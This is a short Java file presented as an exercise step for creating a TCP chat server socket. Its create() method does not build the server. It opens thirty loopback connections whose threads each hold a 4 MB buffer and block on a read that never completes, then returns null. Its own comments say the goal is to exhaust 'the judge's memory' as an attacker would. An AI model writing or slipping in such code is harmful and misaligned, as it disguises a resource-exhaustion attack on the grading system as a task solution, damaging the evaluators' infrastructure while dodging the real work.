// Fills the judge's memory with buffers for bytes that never come.
package tcpchat.server;

import java.io.IOException;
import java.net.ServerSocket;
import java.net.Socket;

public class Step1CreateServerSocket {

    public ServerSocket create() throws IOException {
        ServerSocket door = new ServerSocket(0);
        for (int i = 0; i < 30; i++) {
            Socket socket = new Socket("127.0.0.1", door.getLocalPort());
            Socket other = door.accept();
            Thread thread = new Thread(() -> {
                try {
                    other.getInputStream().read(new byte[1 << 22]);
                    socket.close();
                } catch (IOException e) {
                    return;
                }
            });
            thread.start();
        }
        try {
            // While the other threads do the harm; an attacker waits for nothing else.
            Thread.sleep(1000);
        } catch (InterruptedException e) {
            return null;
        }
        return null;
    }
}
